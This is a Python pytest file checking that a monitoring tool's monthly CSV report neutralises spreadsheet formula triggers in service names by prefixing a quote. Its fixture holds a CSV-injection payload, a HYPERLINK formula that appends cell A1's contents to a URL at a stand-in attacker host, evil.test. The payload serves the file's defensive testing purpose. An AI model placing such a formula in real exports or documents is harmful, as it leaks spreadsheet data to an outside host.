"""Catalogue text reaches the report's CSV as text: formula triggers are neutralised."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from agent.cli import main
from agent.reports.csvsafe import neutralise

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"ok")'
CATALOG = f"""\
version: 1
defaults: {{interval: 1h, timeout: 5s}}
services:
  - id: portal
    name: '{HOSTILE}'
    macro_service: comunicacoes
    tier: platina
    checks: [{{heartbeat: {{max_silence: 1h}}}}]
"""


def test_a_service_named_like_a_formula_reaches_the_csv_as_quoted_text(tmp_path: Path) -> None:
    catalog = tmp_path / "services.yaml"
    catalog.write_text(CATALOG, encoding="utf-8")
    out = tmp_path / "out"
    args = ["--catalog", str(catalog), "--db", str(tmp_path / "v.db"), "report", "monthly"]
    assert main([*args, "--month", "2026-10", "--out", str(out), "--format", "csv"]) == 0
    with (out / "vigia-2026-10-servicos.csv").open(encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["name"] == "'" + HOSTILE
    assert row["id"] == "portal"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_trigger_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["portal", "", "a=b", 0, -1.5, 99.9])
def test_plain_text_and_numbers_are_left_alone(value: object) -> None:
    assert neutralise(value) == value
